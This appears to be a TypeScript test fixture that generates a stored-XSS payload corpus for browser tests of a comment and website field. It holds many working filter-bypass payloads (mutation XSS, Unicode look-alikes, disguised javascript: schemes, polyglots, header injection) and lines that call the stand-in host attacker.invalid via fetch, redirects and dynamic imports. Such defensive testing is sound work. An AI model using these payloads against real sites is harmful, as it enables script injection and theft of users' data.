// A stored-XSS corpus generated from the attack classes in shared/design/comments.md (no public list is
// copied): every payload, if it ever ran, would call alert(<id>), console.log(<id>), or reach
// attacker.invalid/<id>, so a browser test can tell which one got through.

export interface Payload {
  id: number;
  kind: string;
  text: string;
}

/** Where a payload reports when it runs. */
export const ATTACKER_HOST = "attacker.invalid";

type Action = (id: number) => string;

const ACTIONS: Action[] = [
  (id) => `alert(${id})`,
  (id) => `console.log(${id})`,
  (id) => `fetch('//${ATTACKER_HOST}/${id}')`,
  (id) => `location='//${ATTACKER_HOST}/${id}'`,
  (id) => `import('//${ATTACKER_HOST}/${id}.js')`,
];

/** Event handlers and the element/attribute that fires each without user action (or with a hover). */
const HANDLERS: [tag: string, attrs: string, handler: string][] = [
  ["img", "src=x", "onerror"],
  ["img", "src=/nope.png", "onerror"],
  ["svg", "", "onload"],
  ["body", "", "onload"],
  ["iframe", "src=about:blank", "onload"],
  ["video", "src=x", "onerror"],
  ["audio", "src=x", "onerror"],
  ["details", "open", "ontoggle"],
  ["input", "autofocus", "onfocus"],
  ["select", "autofocus", "onfocus"],
  ["textarea", "autofocus", "onfocus"],
  ["a", "href=#", "onmouseover"],
  ["div", "tabindex=1 autofocus", "onfocusin"],
  ["marquee", "", "onstart"],
  ["object", "data=x", "onerror"],
  ["style", "", "onload"],
  ["link", "rel=stylesheet href=x", "onerror"],
  ["source", "src=x", "onerror"],
  ["math", "href=javascript:void(0)", "onclick"],
  ["button", "autofocus", "onfocus"],
];

/** How the handler's value is written: unquoted, quoted, single-quoted, backticks, with odd separators. */
const QUOTING: ((name: string, value: string) => string)[] = [
  (n, v) => ` ${n}=${v}`,
  (n, v) => ` ${n}="${v}"`,
  (n, v) => `/${n}='${v}'`,
  (n, v) => `\n${n}=\`${v}\``,
  (n, v) => `\t${n.toUpperCase()}=${v}`,
];

const SCRIPT_SHAPES: ((a: string) => string)[] = [
  (a) => `<script>${a}</script>`,
  (a) => `<ScRiPt>${a}</sCrIpT>`,
  (a) => `<script >${a}</script >`,
  (a) => `<script/x>${a}</script>`,
  (a) => `<scr<script>ipt>${a}</scr</script>ipt>`,
  (a) => `<<script>${a}//<</script>`,
  (a) => `</title></textarea></style><script>${a}</script>`,
  (a) => `<script\n>${a}</script\n>`,
  (a) => `<script type="module">${a}</script>`,
  (a) => `<script src="data:text/javascript,${encodeURIComponent(a)}"></script>`,
];

/** Ways to hide a scheme from a naive filter (browsers strip tabs, newlines and leading spaces/controls). */
const SCHEME_DISGUISES: ((a: string) => string)[] = [
  (a) => `javascript:${a}`,
  (a) => `JaVaScRiPt:${a}`,
  (a) => `java\tscript:${a}`,
  (a) => `java\nscript:${a}`,
  (a) => ` \u0001javascript:${a}`,
  (a) => `java&#x09;script:${a}`,
  (a) => `&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${a}`,
  (a) => `javascript&colon;${a}`,
  (a) => `vbscript:${a}`,
  (a) => `data:text/html,<script>${a}</script>`,
  (a) => `data:text/html;base64,${Buffer.from(`<script>${a}</script>`).toString("base64")}`,
  (a) => `data:image/svg+xml,<svg onload="${a}"/>`,
  (a) => `jav\u0430script:${a}`, // Cyrillic а
  (a) => `javascript://%0a${encodeURIComponent(a)}`,
];

/** Wrappers that put a scheme where a link may be made of it. */
const LINK_CONTEXTS: ((url: string) => string)[] = [
  (u) => u,
  (u) => `[click](${u})`,
  (u) => `<a href="${u}">click</a>`,
  (u) => `see ${u} now`,
];

/** Attribute break-outs, written as website addresses or as text after a link. */
const BREAKOUTS: ((a: string) => string)[] = [
  (a) => `https://site.example/"><img src=x onerror=${a}>`,
  (a) => `https://site.example/'><svg onload=${a}>`,
  (a) => `https://site.example/" onmouseover="${a}`,
  (a) => `https://site.example/' autofocus onfocus='${a}`,
  (a) => `https://site.example/\`onmouseover=${a}`,
  (a) => `http://site.example?q="></a><script>${a}</script>`,
  (a) => `https://site.example/#"><iframe src=javascript:${a}>`,
  (a) => `site.example" onclick="${a}`,
  (a) => `https://site.example/%22onmouseover=${a}`,
  (a) => `//site.example/"><script>${a}</script>`,
];

/** Look-alikes that case folding or normalization could turn into markup. */
const FOLDING: ((a: string) => string)[] = [
  (a) => `<\u017Fcript>${a}</\u017Fcript>`, // ſ uppercases to S
  (a) => `<SCR\u0130PT>${a}</SCR\u0130PT>`, // İ lowercases to i̇
  (a) => `\uFF1Cscript\uFF1E${a}\uFF1C/script\uFF1E`, // fullwidth < >
  (a) => `\uFE64script\uFE65${a}\uFE64/script\uFE65`, // small < >
  (a) => `<\u017Fvg onload=${a}>`,
  (a) => `\u2039script\u203A${a}\u2039/script\u203A`,
  (a) => `<scr\u0131pt>${a}</scr\u0131pt>`, // dotless ı
  (a) => `<img src=x on\u212Aeydown=${a}>`, // Kelvin sign K
];

/** Markup that changes meaning when parsed again (mutation XSS) and parser edge cases. */
const MUTATIONS: ((a: string) => string)[] = [
  (a) => `<noscript><p title="</noscript><img src=x onerror=${a}>">`,
  (a) => `<svg></p><style><a id="</style><img src=1 onerror=${a}>">`,
  (a) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${a}&gt;">`,
  (a) =>
    `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${a} src>">`,
  (a) => `<!--><img src=x onerror=${a}>-->`,
  (a) => `<![CDATA[><img src=x onerror=${a}>]]>`,
  (a) => `<textarea></textarea><img src=x onerror=${a}>`,
  (a) => `<title><img src=x onerror=${a}></title>`,
  (a) => `<xmp><img src=x onerror=${a}></xmp>`,
  (a) => `<iframe srcdoc="&lt;script&gt;${a}&lt;/script&gt;"></iframe>`,
  (a) => `<template><img src=x onerror=${a}></template>`,
  (a) => `<svg><script>${a}</script></svg>`,
  (a) => `<svg><a xlink:href="javascript:${a}"><text y=20>x</text></a></svg>`,
  (a) => `<svg><animate onbegin=${a} attributeName=x dur=1s>`,
  (a) => `<svg><set attributeName=onmouseover to=${a}>`,
  (a) => `<table><td background="javascript:${a}">`,
  (a) => `<object data="javascript:${a}">`,
  (a) => `<embed src="javascript:${a}">`,
  (a) => `<isindex type=image src=1 onerror=${a}>`,
  (a) => `<plaintext><img src=x onerror=${a}>`,
];

/** Things that fetch from another origin without running script (tracking, CSS exfiltration, redirects). */
const FETCHERS: ((id: number) => string)[] = [
  (id) => `<img src="http://${ATTACKER_HOST}/${id}.png">`,
  (id) => `<link rel=stylesheet href="http://${ATTACKER_HOST}/${id}.css">`,
  (id) => `<style>@import 'http://${ATTACKER_HOST}/${id}.css';</style>`,
  (id) => `<div style="background:url(http://${ATTACKER_HOST}/${id}.png)">x</div>`,
  (id) => `<base href="http://${ATTACKER_HOST}/${id}/">`,
  (id) => `<meta http-equiv="refresh" content="0;url=http://${ATTACKER_HOST}/${id}">`,
  (id) => `<video poster="http://${ATTACKER_HOST}/${id}.jpg"></video>`,
  (id) => `<form action="http://${ATTACKER_HOST}/${id}"><button>x</button></form>`,
  (id) => `<input type=image src="http://${ATTACKER_HOST}/${id}.png">`,
  (id) => `<object data="http://${ATTACKER_HOST}/${id}"></object>`,
];

/** Our own formatting syntax carrying markup: emphasis, quotes and links around tags. */
const FORMATTER: ((a: string) => string)[] = [
  (a) => `*<img src=x onerror=${a}>*`,
  (a) => `**<svg onload=${a}>**`,
  (a) => `> <script>${a}</script>\n> more`,
  (a) => `_<iframe src=javascript:${a}>_`,
  (a) => `https://site.example/*<svg/onload=${a}>*`,
  (a) => `www.site.example"><img src=x onerror=${a}>`,
  (a) => `mailto:a@site.example?subject="><script>${a}</script>`,
  (a) => `mailto:"><img src=x onerror=${a}>@site.example`,
  (a) => `https://site.example/<script>${a}</script>`,
  (a) => `(https://site.example/x)"><img src=x onerror=${a}>`,
];

/** Encodings a careless decoder might undo into markup. */
const ENCODINGS: ((a: string) => string)[] = [
  (a) => `&lt;script&gt;${a}&lt;/script&gt;`,
  (a) => `%3Cscript%3E${a}%3C/script%3E`,
  (a) => `\\x3cscript\\x3e${a}\\x3c/script\\x3e`,
  (a) => `\\u003cscript\\u003e${a}\\u003c/script\\u003e`,
  (a) => `+ADw-script+AD4-${a}+ADw-/script+AD4-`,
  (a) => `&#60;script&#62;${a}&#60;/script&#62;`,
  (a) => `&#x3C;img src=x onerror=${a}&#x3E;`,
  (a) => `<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>${a}`,
];

/** Our own polyglots: one string meant to break out of text, attributes, comments and raw-text elements. */
const POLYGLOTS: ((a: string) => string)[] = [
  (a) => `'"--></style></script></textarea></title><svg onload=${a}>`,
  (a) => `"'\`><!--<img src=x onerror=${a}>--><script>${a}</script>`,
  (a) => `</p></div></li></ol></section><img src=x onerror=${a}>`,
  (a) => `]]></bdi></b><svg/onload=${a}>`,
  (a) => `*/</script><script>/*${a}//</script>`,
  (a) => `javascript:/*"/*'/*\`/*--></title></style></textarea><svg onload=${a}>`,
];

/** Length edges: a tag straddling the name and body limits, and 4-byte characters before a tag. */
const TRUNCATION: ((a: string) => string)[] = [
  (a) => `${"A".repeat(230)}<img src=x onerror=${a}>`,
  (a) => `${"😀".repeat(110)}<svg onload=${a}>`,
  (a) => `${"𝒜".repeat(120)}<img src=x onerror=${a}>`,
  (a) => `${"x".repeat(65_490)}<img src=x onerror=${a}>`,
  (_a) => `${"ب".repeat(244)}<`,
];

/** Lines and controls that forge log lines or headers if they ever reach one. */
const CONTROLS: ((a: string) => string)[] = [
  (a) => `name\r\nX-Injected: <script>${a}</script>`,
  (a) => `\u0000<script>${a}</script>`,
  (a) => `\u202e>tpircs/<${a}>tpircs<`,
  (a) => `\u2028<img src=x onerror=${a}>\u2029`,
];

/** The whole corpus, deduplicated, ids in order. */
export function xssCorpus(): Payload[] {
  const out: Payload[] = [];
  const seen = new Set<string>();
  let next = 1000;
  const add = (kind: string, make: (a: string, id: number) => string) => {
    const id = next++;
    const action = ACTIONS[id % ACTIONS.length]!(id);
    const text = make(action, id);
    if (seen.has(text)) return;
    seen.add(text);
    out.push({ id, kind, text });
  };
  for (const [tag, attrs, handler] of HANDLERS)
    for (const quote of QUOTING)
      for (let k = 0; k < 2; k++)
        add("event handler", (a) => `<${tag}${attrs ? ` ${attrs}` : ""}${quote(handler, a)}>`);
  for (const shape of SCRIPT_SHAPES) for (let k = 0; k < ACTIONS.length; k++) add("script tag", shape);
  for (const disguise of SCHEME_DISGUISES)
    for (const context of LINK_CONTEXTS) add("dangerous scheme", (a) => context(disguise(a)));
  for (const group of [BREAKOUTS, FOLDING, MUTATIONS, FORMATTER, ENCODINGS, POLYGLOTS, CONTROLS])
    for (const make of group) for (let k = 0; k < ACTIONS.length; k++) add(kindOf(group), make);
  for (const make of FETCHERS) add("remote fetch", (_a, id) => make(id));
  for (const make of TRUNCATION) add("truncation", make);
  return out;
}

/** Payloads meant for the website field: schemes and break-outs, as a link would carry them. */
export function websiteCorpus(): Payload[] {
  const out: Payload[] = [];
  let next = 5000;
  for (const disguise of SCHEME_DISGUISES) {
    const id = next++;
    out.push({ id, kind: "website scheme", text: disguise(ACTIONS[id % ACTIONS.length]!(id)) });
  }
  for (const make of BREAKOUTS) {
    for (let k = 0; k < 3; k++) {
      const id = next++;
      out.push({ id, kind: "website break-out", text: make(ACTIONS[id % ACTIONS.length]!(id)) });
    }
  }
  for (const make of FOLDING) {
    const id = next++;
    out.push({
      id,
      kind: "website look-alike",
      text: `https://site.example/${make(ACTIONS[id % ACTIONS.length]!(id))}`,
    });
  }
  return out;
}

function kindOf(group: unknown[]): string {
  if (group === BREAKOUTS) return "attribute break-out";
  if (group === FOLDING) return "case folding";
  if (group === MUTATIONS) return "mutation";
  if (group === FORMATTER) return "formatter";
  if (group === ENCODINGS) return "encoding";
  if (group === POLYGLOTS) return "polyglot";
  return "control characters";
}
